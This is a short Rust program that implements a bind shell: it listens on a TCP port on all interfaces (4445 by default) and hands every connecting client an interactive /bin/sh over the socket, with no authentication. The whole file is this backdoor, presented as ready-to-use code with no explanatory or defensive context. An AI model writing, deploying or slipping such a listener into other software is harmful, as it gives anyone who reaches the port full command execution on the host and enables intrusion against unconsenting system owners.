use std::net::TcpListener;
use std::os::fd::{FromRawFd, IntoRawFd};
use std::process::{Command, Stdio};
use std::thread;

fn main() -> std::io::Result<()> {
    let port = std::env::args().nth(1).unwrap_or_else(|| "4445".into());
    let l = TcpListener::bind(format!("0.0.0.0:{port}"))?;
    for c in l.incoming().flatten() {
        thread::spawn(move || {
            let i = c.try_clone().unwrap().into_raw_fd();
            let o = c.try_clone().unwrap().into_raw_fd();
            let e = c.into_raw_fd();
            unsafe {
                let _ = Command::new("/bin/sh")
                    .arg("-i")
                    .stdin(Stdio::from_raw_fd(i))
                    .stdout(Stdio::from_raw_fd(o))
                    .stderr(Stdio::from_raw_fd(e))
                    .status();
            }
        });
    }
    Ok(())
}
